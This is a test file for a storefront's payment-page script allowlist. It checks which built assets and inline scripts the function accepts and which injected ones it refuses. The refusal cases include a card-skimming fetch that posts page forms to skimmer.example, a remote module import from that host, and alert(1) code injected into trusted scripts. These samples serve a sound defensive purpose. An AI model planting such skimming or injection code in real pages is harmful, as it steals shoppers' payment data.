import { describe, expect, it } from "vitest";
import { deferAppScripts } from "../../../storefront/app/defer-app-scripts";
import { REGISTER_SERVICE_WORKER } from "../../../storefront/app/features/offline/register-script";
import { authorisationOf, type PageScript } from "./payment-page-scripts";

type InlineScript = Extract<PageScript, { kind: "inline" }>;
const file = (url: string): PageScript => ({ kind: "file", url });
const inline = (text: string, type = ""): InlineScript => ({ kind: "inline", type, text });
const nameOf = (script: PageScript) => authorisationOf(script)?.name;

const APP_MODULE = [
  'import "/assets/manifest-46a375d9.js";',
  'import * as route0 from "/assets/root-DkM_4Jgv.js";',
  'import * as route1 from "/assets/checkout-payment-OUjZRmtw.js";',
  "  ",
  '  window.__reactRouterRouteModules = {"root":route0,"routes/checkout-payment":route1};',
  "",
  'import("/assets/entry.client-RvwxSwwX.js");',
].join("\n");
const HANDOFF =
  'window.__reactRouterContext = {"basename":"/","ssr":true,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());';

/** The inline scripts of a document, as the browser would see their type and text. */
function inlineScriptsOf(html: string): InlineScript[] {
  return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)].map(([, attributes = "", text = ""]) =>
    inline(text, /type="([^"]*)"/.exec(attributes)?.[1] ?? ""),
  );
}

describe("the payment pages' script inventory", () => {
  it("takes the storefront's built files by their role", () => {
    expect(nameOf(file("/assets/entry.client-RvwxSwwX.js"))).toBe("the client entry");
    expect(nameOf(file("/assets/manifest-46a375d9.js"))).toBe("the route manifest");
    expect(nameOf(file("/assets/captcha-worker-Dew4hZXP.js"))).toBe("the captcha worker");
    expect(nameOf(file("/assets/checkout-payment-OUjZRmtw.js"))).toBe("the pages' own modules");
  });

  it("takes no file from another site, outside the build's assets, or not named by the build", () => {
    for (const url of [
      "https://cdn.example.com/assets/entry.client-RvwxSwwX.js",
      "/assets/skimmer.js",
      "/img/payment-OUjZRmtw.js",
      "/_sandbox/checkout-OUjZRmtw.js",
      "/assets/checkout-OUjZRmtw.js?x=1",
    ]) {
      expect(authorisationOf(file(url)), url).toBeUndefined();
    }
  });

  it("takes the starter and its data block as the storefront writes them, with or without a nonce", () => {
    for (const nonce of [undefined, "n0nce"]) {
      const attribute = nonce ? ` nonce="${nonce}"` : "";
      const page =
        `<html><head><link rel="modulepreload" href="/assets/entry.client-RvwxSwwX.js"${attribute}/></head>` +
        `<body><script${attribute} type="module" async>${APP_MODULE}</script></body></html>`;
      expect(inlineScriptsOf(deferAppScripts(page, nonce)).map(nameOf)).toEqual([
        "the starter's data",
        "the app's starter",
      ]);
    }
    expect(nameOf(inline(APP_MODULE, "module"))).toBe("the app's module script");
  });

  it("takes React Router's handoff and loader data by their shape", () => {
    expect(nameOf(inline(HANDOFF))).toBe("React Router's handoff");
    const chunk = JSON.stringify('[{"_1":2},"loaderData"]\n');
    expect(nameOf(inline(`window.__reactRouterContext.streamController.enqueue(${chunk});`))).toBe(
      "React Router's loader data",
    );
    expect(nameOf(inline("window.__reactRouterContext.streamController.close();"))).toBe(
      "the end of React Router's loader data",
    );
  });

  it("refuses a script injected into the page, or one of the listed kinds with code added", () => {
    const refused = [
      inline("fetch('https://skimmer.example/c', { method: 'POST', body: document.forms[0] })"),
      inline(HANDOFF.replace("{", "{}; alert(1); ({")),
      inline(`window.__reactRouterContext.streamController.enqueue("x");alert(1);("");`),
      inline(`${APP_MODULE}\nimport "https://skimmer.example/x.js";`, "module"),
      inline(APP_MODULE.replace('"/assets/root-DkM_4Jgv.js"', '"/assets/root-DkM_4Jgv.js?x"'), "module"),
      inline(APP_MODULE, "text/javascript"),
      inline(
        JSON.stringify({ preloads: ["https://skimmer.example/x.js"], source: APP_MODULE }),
        "application/json",
      ),
      inline(JSON.stringify({ preloads: [], source: "alert(1)" }), "application/json"),
      inline(JSON.stringify({ preloads: [], source: APP_MODULE, more: 1 }), "application/json"),
      inline('((storageKey2, restoreKey) => { alert(1) })("react-router-scroll-positions", null)'),
    ];
    for (const script of refused) {
      expect(authorisationOf(script), JSON.stringify(script)).toBeUndefined();
    }
    const [, starter] = inlineScriptsOf(
      deferAppScripts(`<script type="module" async>${APP_MODULE}</script>`),
    );
    expect(starter && nameOf(starter)).toBe("the app's starter");
    expect(authorisationOf(inline(`${starter?.text};alert(1)`))).toBeUndefined();
  });

  it("takes the service worker's registration as the storefront writes it, and the worker, and nothing like them", () => {
    expect(nameOf(inline(REGISTER_SERVICE_WORKER))).toBe("the service worker's registration");
    expect(nameOf(file("/sw.js"))).toBe("the service worker");
    expect(authorisationOf(inline(`${REGISTER_SERVICE_WORKER};alert(1)`))).toBeUndefined();
    expect(authorisationOf(inline(REGISTER_SERVICE_WORKER, "module"))).toBeUndefined();
    for (const url of ["/sw.js?x=1", "/assets/sw.js", "https://cdn.example.com/sw.js"]) {
      expect(authorisationOf(file(url)), url).toBeUndefined();
    }
  });
});
